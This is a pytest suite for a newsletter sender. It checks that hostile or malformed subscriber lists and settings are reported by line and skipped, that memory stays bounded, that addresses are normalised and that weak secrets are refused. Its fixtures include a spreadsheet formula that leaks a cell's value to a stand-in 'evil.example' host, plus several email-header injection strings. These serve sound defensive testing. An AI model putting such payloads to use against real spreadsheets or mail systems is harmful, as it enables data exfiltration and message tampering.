"""Hostile or accidental subscriber lists, tokens and secrets: every bad row is reported where it is
and skipped, never silently dropped and never the end of the whole send; bad settings are located.

tests/corpus/lists/ holds one case a file; the 1 MB ones are generated here."""

from __future__ import annotations

import csv
import json
import re
import secrets
import time
import tracemalloc
from pathlib import Path

import pytest

from conftest import SMALL_ISSUE, Project, run_cli
from newsletter.config import MAKE_SECRET, load_settings
from newsletter.errors import ConfigError, SubscriberListError
from newsletter.store import open_store
from newsletter.message import BatchResult, Personalization
from newsletter.providers.dry_run import csv_safe
from newsletter.subscribers import MAX_ROW, SubscriberList, address_key
from smtp_server import Recorder

CORPUS = Path(__file__).parent / "corpus" / "lists"
MB = 1_000_000
SECRET = "hostile-lists-test-secret-0123456789abcdef"


def _big(head: str, row: str, tail: str = "b@example.com,Bob,ok\n") -> str:
    return head + row + tail


# file -> what the list must give: lines reported invalid / duplicate, or refused at line 1
EXPECT: dict[str, dict] = {
    "unbalanced-quote-swallows-rows.csv": {"invalid": [2], "says": ["lines 2-5", "b@example.com, c@example.com, d@example.com", "Close the quote on line 2"]},
    "unbalanced-quote-in-email-column.csv": {"invalid": [3], "says": ["lines 3-5", "b@example.com, c@example.com"]},
    "unbalanced-quote-closed-later.csv": {"invalid": [2], "says": ["lines 2-4", "b@example.com, c@example.com"]},
    "stray-quote-inside-unquoted-value.csv": {"invalid": []},
    "duplicate-columns.csv": {"refused": "column 'Email' appears twice (columns 1 and 3"},
    "header-injection-crlf-in-name.csv": {"invalid": [2], "says": ["name: contains a carriage return (U+000D)"]},
    "nul-in-name.csv": {"invalid": [2], "says": ["name: contains a NUL character (U+0000)"]},
    "escape-sequence-in-name.csv": {"invalid": [2], "says": ["(U+001B)"]},
    "unicode-line-separators-in-name.csv": {"invalid": [2, 3, 4], "says": ["(U+2028)", "(U+2029)", "(U+0085)"]},
    "control-character-in-extra-column.csv": {"invalid": [2, 4], "says": ["company: contains a line break", "company: contains a tab"]},
    "non-ascii-local-parts.csv": {"invalid": []},  # SMTP may carry them (SMTPUTF8); SendGrid: see below
    "formula-injection.csv": {"invalid": []},
    "address-normalization.csv": {"invalid": [], "duplicates": [5]},
    "overlong-name-and-extra-column.csv": {"invalid": [2, 3], "says": ["name: 1,001 characters", "note: 10,001 characters"]},
    "wrong-field-counts.csv": {"invalid": [2, 3]},
    "blank-and-whitespace-rows.csv": {"invalid": []},
    # a spreadsheet's export in the wrong format: say what is wrong, not only "no email column"
    "semicolon-separated.csv": {"refused": "the columns are separated by semicolons, not commas"},
    "tab-separated.csv": {"refused": "the columns are separated by tabs, not commas"},
    "no-email-column.csv": {"refused": "the header row needs an `email` column (it has 'Email Address', 'First Name')"},
    "empty.csv": {"refused": "the file is empty"},
}

# generated: name -> (text, expectations)
GENERATED: dict[str, tuple[str, dict]] = {
    "data-field-1mb.csv": (_big("email,name,note\n", "a@example.com,Anna," + "x" * MB + "\n"),
                           {"invalid": [2], "says": ["a@example.com", "the row is skipped"]}),
    "data-field-200kb.csv": (_big("email,name,note\n", "a@example.com,Anna," + "x" * 200_000 + "\n"),
                             {"invalid": [2], "says": ["a value is longer than", "(line 2, a@example.com)"]}),
    "row-over-max-row.csv": (_big("email,name,note\n", "a@example.com,Anna," + "x" * (MAX_ROW + 10) + "\n"),
                             {"invalid": [2], "says": [f"longer than {MAX_ROW:,} characters (line 2, a@example.com)"]}),
    "name-field-1mb-quoted.csv": (_big("email,name,note\n", 'a@example.com,"' + "N" * MB + '",ok\n'),
                                  {"invalid": [2]}),
    "header-field-1mb.csv": ("email,name," + "H" * MB + "\na@example.com,Anna,x\n",
                             {"refused": "the header row is longer than"}),
    "runaway-quote-into-long-line.csv": (  # naming the swallowed addresses stays linear in time
        'email,name\na@example.com,"Anna\n' + "x" * 600_000 + "\nb@example.com,Bob\n",
        {"invalid": [2], "says": ["a value is longer than 131,072 characters (lines 2-3, a@example.com)"]}),
    "runaway-quote-past-field-limit.csv": (
        'email,name\na@example.com,"Anna\n' + "".join(f"r{i}@example.com,R {i}\n" for i in range(8000)),
        {"invalid": [2], "says": ["a value is longer than", "a@example.com and the", "r0@example.com", "more)"]}),
}

CASES = sorted(EXPECT) + sorted(GENERATED)


def list_path(name: str, tmp_path: Path) -> Path:
    if name in EXPECT:
        return CORPUS / name
    path = tmp_path / name
    path.write_text(GENERATED[name][0], encoding="utf-8", newline="")
    return path


def expect(name: str) -> dict:
    return EXPECT[name] if name in EXPECT else GENERATED[name][1]


def addresses_in(path: Path) -> set[str]:
    """The readers' addresses: what starts a line (the corpus keeps email in the first column)."""
    lines = path.read_text(encoding="utf-8").splitlines()
    return {first for line in lines if re.fullmatch(r"[^\s@]+@[^\s@]+", first := line.split(",")[0].strip('"'))}


@pytest.mark.parametrize("name", CASES)
def test_library_reports_every_bad_row_where_it_is(name, tmp_path):
    path, want = list_path(name, tmp_path), expect(name)
    started = time.monotonic()
    if "refused" in want:
        with pytest.raises(SubscriberListError, match=re.escape(f"{path}:1: {want['refused']}")):
            list(SubscriberList(path))
        return
    subs = SubscriberList(path)
    got = list(subs)
    assert time.monotonic() - started < 5
    assert [p.line for p in subs.invalid] == want["invalid"], [str(p) for p in subs.invalid]
    assert [p.line for p in subs.duplicates] == want.get("duplicates", [])
    # every row is accounted for: yielded (whatever its status), invalid or duplicate
    assert subs.rows == len(got) + len(subs.invalid) + len(subs.duplicates)
    messages = "\n".join(str(p) for p in subs.invalid + subs.duplicates)
    for text in want.get("says", []):
        assert text in messages
    assert all(str(p).startswith(f"{path}:{p.line}: ") for p in subs.invalid + subs.duplicates)
    if name in EXPECT:  # nobody vanishes: each address is either yielded or named in a message
        named = {address_key(s.email) for s in got}
        for address in addresses_in(path):
            assert address_key(address) in named or address in messages, address


@pytest.mark.parametrize("name", CASES)
def test_dry_run_over_hostile_list_never_crashes_and_names_the_line(name, project, tmp_path):
    path, want = list_path(name, tmp_path), expect(name)
    project.write_issue(SMALL_ISSUE, "issue.yaml")
    started = time.monotonic()
    r = run_cli("send", "issues/issue.yaml", "--list", str(path), cwd=project.root)
    assert time.monotonic() - started < 5
    assert r.code in (0, 1), r.output
    assert "Traceback" not in r.output and "internal error" not in r.output
    if "refused" in want:
        assert r.code == 1 and f"{path}:1: {want['refused']}" in r.err
        return
    assert r.code == 0, r.output
    report = json.loads((project.root / "outbox" / "issue" / "report-dry-run.json").read_text())
    accounted = (report["would_send"] + sum(report["skipped_by_status"].values()) + len(report["invalid"])
                 + len(report["duplicates"]))
    assert report["rows"] == accounted
    for line in want["invalid"] + want.get("duplicates", []):
        assert f"{path}:{line}: " in r.err
    with (project.root / "outbox" / "issue" / "recipients.csv").open(newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))[1:]
    assert len(rows) == report["would_send"]
    if name in EXPECT:
        shown = r.output + "\n".join(row[0] for row in rows)
        for address in addresses_in(path):
            assert address in shown or address_key(address) in {address_key(row[0].lstrip("'")) for row in rows}


def test_sendgrid_refuses_non_ascii_local_parts_but_not_idn_domains(project, cli):
    path = CORPUS / "non-ascii-local-parts.csv"
    assert {s.email for s in SubscriberList(path, allow_utf8_local=False)} == {"anna@пример.рф", "bob@example.com"}
    subs = SubscriberList(path, allow_utf8_local=False)
    list(subs)
    assert [p.line for p in subs.invalid] == [2, 3]
    assert "non-ASCII characters before the @ need SMTPUTF8" in str(subs.invalid[0])
    # the campaign passes allow_utf8_local=False when SendGrid would send
    project.write_issue(SMALL_ISSUE, "issue.yaml")
    r = cli("send", "issues/issue.yaml", "--list", str(path), "--provider", "sendgrid", cwd=project.root)
    assert r.code == 0, r.output
    assert f"{path}:2: 'пользователь@пример.рф': non-ASCII characters before the @" in r.err
    assert f"{path}:3: 'üser@example.com'" in r.err
    # through SMTP they are sent (if the server offers SMTPUTF8); the dry run writes their samples
    r = cli("send", "issues/issue.yaml", "--list", str(path), "--provider", "smtp", cwd=project.root)
    assert r.code == 0 and "non-ASCII" not in r.err, r.output
    samples = sorted((project.root / "outbox" / "issue").glob("sample-*.eml"))
    assert "To: Пользователь <пользователь@пример.рф>" in samples[0].read_bytes().decode()


def test_reading_a_hostile_list_keeps_memory_bounded(tmp_path):
    """A runaway quote over a big list and a 20 MB line cost about one row's cap, not the file."""
    path = tmp_path / "big.csv"
    with path.open("w", encoding="utf-8") as f:
        f.write('email,name\na@example.com,"Anna\n')
        for i in range(6_000):
            f.write(f"reader{i}@example.com,Reader {i}\n")
        f.write("z@example.com," + "z" * (20 * MB) + "\n")
        f.write("last@example.com,Last\n")
    assert path.stat().st_size > 20 * MB
    tracemalloc.start()
    try:
        subs = SubscriberList(path)
        n = sum(1 for _ in subs)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 8 * MB, peak  # ~4.5 MB: one row's cap (1 M characters) and its copies while read
    assert [p.line for p in subs.invalid] == [2, 6_003]
    assert "(line 6003, z@example.com)" in str(subs.invalid[1])
    assert subs.rows == n + len(subs.invalid)
    assert n > 500  # only what the runaway quote swallowed is lost, and it is named
    assert re.search(r"swallowed \(reader0@example.com, .* and \d{4} more\) are not sent", str(subs.invalid[0]))


# --- address normalization and the send record ------------------------------------------------


def test_address_key_keeps_distinct_mailboxes_apart_and_merges_case():
    assert address_key("straße@example.com") != address_key("strasse@example.com")
    assert address_key("Chen@Example.COM") == address_key("chen@example.com") == "chen@example.com"
    assert address_key("Ünal@example.com") != address_key("ünal@example.com")  # only A-Z fold
    assert address_key("anna@ПРИМЕР.РФ") == "anna@пример.рф"
    assert address_key("u\u0308ser@example.com") == address_key("üser@example.com")  # NFC, as validated


def test_list_dedupes_on_address_key(tmp_path):
    subs = SubscriberList(CORPUS / "address-normalization.csv")
    assert [s.email for s in subs] == ["straße@example.com", "strasse@example.com", "Chen@example.com",
                                       "Ünal@example.com", "ünal@example.com"]
    assert [str(p).split(": ", 1)[1] for p in subs.duplicates] == [
        "chen@example.com duplicates line 4 (case-insensitive); the first row wins"]


def test_ledger_keys_match_the_list_keys(tmp_path):
    with open_store(tmp_path) as store, store.send_record("2021-03") as ledger:
        batch = [Personalization(e, "", (), ()) for e in ("straße@example.com", "Chen@Example.COM")]
        ledger.mark_in_flight("b1", "smtp", batch)
        ledger.record(BatchResult(sent={"straße@example.com": "ok", "Chen@Example.COM": "ok"}))
        assert ledger.states(["straße@example.com", "strasse@example.com", "chen@example.com"]) == {
            "straße@example.com": "sent", "chen@example.com": "sent"}


def test_resume_after_changing_case_in_the_list_sends_nothing_twice(project, serve):
    handler = Recorder()
    port = serve(handler, enable_SMTPUTF8=True)
    env = {"NEWSLETTER_SMTP_PORT": str(port), "NEWSLETTER_SECRET": SECRET}
    project.write_issue(SMALL_ISSUE, "2021-03.yaml")
    project.write_list("email,name\nChen@Example.COM,Chen\nstrasse@example.com,S\n")
    args = ("send", "issues/2021-03.yaml", "--list", "readers", "--provider", "smtp", "--send", "--yes")
    r = run_cli(*args, cwd=project.root, env=env)
    assert r.code == 0, r.output
    project.write_list("email,name\nchen@example.com,Chen\nSTRASSE@EXAMPLE.COM,S\nstraße@example.com,Straße\n")
    r = run_cli(*args, cwd=project.root, env=env)
    assert r.code == 0, r.output
    assert "already sent" in r.out
    rcpts = sorted(rcpt for _, rcpts, _, _ in handler.messages for rcpt in rcpts)
    # straße@ is a different mailbox (sent once, now); Chen and strasse got one copy each
    assert rcpts == ["Chen@example.com", "strasse@example.com", "straße@example.com"]
    # a named reader with a non-ASCII local part travels over SMTPUTF8
    to = [msg["To"] for _, rcpts, msg, _ in handler.messages if rcpts == ["straße@example.com"]]
    assert str(to[0]).encode("utf-8", "surrogateescape").decode() == "Straße <straße@example.com>"


# --- CSV the tool writes --------------------------------------------------------------------------


@pytest.mark.parametrize("cell, safe", [
    ("=HYPERLINK(\"x\")", "'=HYPERLINK(\"x\")"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("Anna", "Anna"), ("", ""), (7, 7), ("a=b", "a=b"),
])
def test_csv_safe_neutralises_formulas(cell, safe):
    assert csv_safe(cell) == safe


def test_recipients_csv_cells_cannot_run_as_formulas(project, cli):
    project.write_issue(SMALL_ISSUE, "issue.yaml")
    r = cli("send", "issues/issue.yaml", "--list", str(CORPUS / "formula-injection.csv"), cwd=project.root)
    assert r.code == 0, r.output
    with (project.root / "outbox" / "issue" / "recipients.csv").open(newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    assert rows[0] == ["email", "name", "line"]
    assert rows[1] == ["a@example.com", "'=HYPERLINK(\"https://evil.example/?x=\"&A1,\"Click\")", "2"]
    assert rows[2][1] == "'+SUM(1;2)" and rows[3][1] == "'@cmd"
    assert rows[4][0] == "'-dash@example.com"
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


# --- settings: secret, port, header values ------------------------------------------------------


def settings(project: Project, **env: str):
    return load_settings(project.root / "newsletter.toml", env=env)


@pytest.mark.parametrize("weak", [" ", "x" * 3, "a" * 40, "ab" * 20, " " * 10 + "k" * 31, "test-secret-key"])
def test_weak_secrets_are_refused_with_how_to_make_one(project, weak):
    with pytest.raises(ConfigError) as e:
        settings(project, NEWSLETTER_SECRET=weak)
    message = str(e.value)
    assert message.startswith("environment variable NEWSLETTER_SECRET: secret: too weak")
    assert MAKE_SECRET in message
    assert not weak.strip() or weak.strip() not in message  # a secret is never echoed


def test_strong_secrets_are_accepted(project):
    for strong in (secrets.token_urlsafe(32), secrets.token_hex(16), SECRET):
        assert settings(project, NEWSLETTER_SECRET=strong).secret == strong


def test_weak_secret_stops_the_command_line(project, cli):
    project.write_issue(SMALL_ISSUE, "issue.yaml")
    project.write_list("email,name\na@example.com,A\n")
    r = cli("send", "issues/issue.yaml", "--list", "readers", cwd=project.root, env={"NEWSLETTER_SECRET": " "})
    assert r.code == 1 and "NEWSLETTER_SECRET: secret: too weak" in r.err and "secrets.token_urlsafe(32)" in r.err
    assert "Traceback" not in r.output


@pytest.mark.parametrize("port, says", [
    ("99999", "less than or equal to 65535"), ("0", "greater than or equal to 1"),
    ("smtp", "valid integer"), ("25x", "valid integer"),
])
def test_smtp_port_from_the_environment_is_checked_and_named(project, port, says):
    with pytest.raises(ConfigError, match=rf"^environment variable NEWSLETTER_SMTP_PORT: smtp.port: .*{says}"):
        settings(project, NEWSLETTER_SMTP_PORT=port)


@pytest.mark.parametrize("var, value, says", [
    ("NEWSLETTER_SMTP_TIMEOUT", "inf", "less than or equal to 3600"),  # was an OverflowError at connect
    ("NEWSLETTER_SMTP_TIMEOUT", "1e300", "less than or equal to 3600"),
    ("NEWSLETTER_SMTP_RATE", "0/s", "a count above 0"),  # was no limit at all
    ("NEWSLETTER_SMTP_RATE", "0.0/h", "a count above 0"),
    ("NEWSLETTER_SMTP_HOST", " ", "is not a host name"),  # was "please run connect() first", retried
    ("NEWSLETTER_SMTP_HOST", "smtp example.org", "is not a host name"),
    ("NEWSLETTER_SMTP_USERNAME", "émile", "outside ASCII"),  # was a UnicodeEncodeError at login
    ("NEWSLETTER_SMTP_PASSWORD", "pässwörd-0123456789", "outside ASCII"),
])
def test_smtp_settings_that_cannot_work_are_refused_and_named(project, var, value, says):
    with pytest.raises(ConfigError) as e:
        settings(project, **{var: value})
    assert str(e.value).startswith(f"environment variable {var}: smtp.") and says in str(e.value)
    assert "pässwörd" not in str(e.value)  # the password is never echoed


def test_a_non_ascii_smtp_password_leaves_nobody_unknown(project, cli):
    """It used to fail at login with exit 70, after every connection's first reader was marked in
    flight: readers never sent then showed as unknown."""
    project.write_issue(SMALL_ISSUE, "issue.yaml")
    project.write_list("email,name\na@example.com,A\n")
    r = cli("send", "issues/issue.yaml", "--list", "readers", "--provider", "smtp", "--send", "--yes",
            cwd=project.root, env={"NEWSLETTER_SECRET": SECRET, "NEWSLETTER_SMTP_USERNAME": "bob",
                                   "NEWSLETTER_SMTP_PASSWORD": "pässwörd-0123456789"})
    assert r.code == 1 and "NEWSLETTER_SMTP_PASSWORD: smtp.password" in r.err and "pässwörd" not in r.output
    assert not (project.root / ".newsletter" / "sends.sqlite3").exists()


def test_smtp_port_in_the_file_is_located(project):
    cfg = project.root / "newsletter.toml"
    cfg.write_text(cfg.read_text().replace("port = 2525", "port = 70000"))
    line = cfg.read_text().splitlines().index("port = 70000") + 1
    with pytest.raises(ConfigError, match=rf"newsletter.toml:{line}: smtp.port: .*65535"):
        settings(project)
    assert settings(project, NEWSLETTER_SMTP_PORT="587").provider_settings("smtp").port == 587


@pytest.mark.parametrize("key, value", [
    ("name", "Digest\\nBcc: x@example.net"), ("from_name", "Test\\u0000Digest"),
    ("from_email", "digest\\r@example.org"), ("reply_to", "editor@example.org\\u2028"),
    ("postal_address", "1 Example Street\\nSpringfield"), ("from_name", "Digest\\u2029"),
    ("from_name", "\\u001b[31mRed"),
])
def test_header_values_in_the_file_must_be_one_line(project, key, value):
    cfg = project.root / "newsletter.toml"
    text = re.sub(rf'^{key} = ".*"$', lambda m: f'{key} = "{value}"', cfg.read_text(), flags=re.MULTILINE)
    cfg.write_text(text)
    line = next(i for i, l in enumerate(text.splitlines(), 1) if l.startswith(f"{key} ="))
    with pytest.raises(ConfigError, match=rf"newsletter.toml:{line}: {key}: contains a control character or line break"):
        settings(project)


def test_header_values_from_the_environment_name_the_variable(project):
    with pytest.raises(ConfigError, match=r"^environment variable NEWSLETTER_FROM_NAME: from_name: contains .*U\+000A"):
        settings(project, NEWSLETTER_FROM_NAME="Digest\nBcc: x@example.net")
    with pytest.raises(ConfigError, match=r"environment variable NEWSLETTER_PREVIEW_TO: preview"):
        settings(project, NEWSLETTER_PREVIEW_TO="a@example.org,b\x00@example.org")
